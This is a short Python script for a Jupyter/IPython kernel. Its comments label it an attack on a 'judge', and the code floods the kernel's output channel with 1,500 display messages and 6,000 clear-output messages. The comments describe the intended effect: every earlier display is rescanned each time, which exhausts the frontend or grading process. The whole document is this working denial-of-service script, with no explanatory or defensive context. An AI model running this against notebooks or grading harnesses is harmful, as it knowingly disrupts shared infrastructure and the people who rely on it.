# attacks: compression
# wall: judge
# loot: stock -- each time all displays that there ever were are looked through
kernel = get_ipython().kernel
for number in range(1_500):
    content = {"data": {}, "metadata": {}, "transient": {"display_id": str(number)}}
    kernel.session.send(kernel.iopub_socket, "display_data", content, kernel.get_parent("shell"))
for _ in range(6_000):
    kernel.session.send(kernel.iopub_socket, "clear_output", {"wait": False}, kernel.get_parent("shell"))
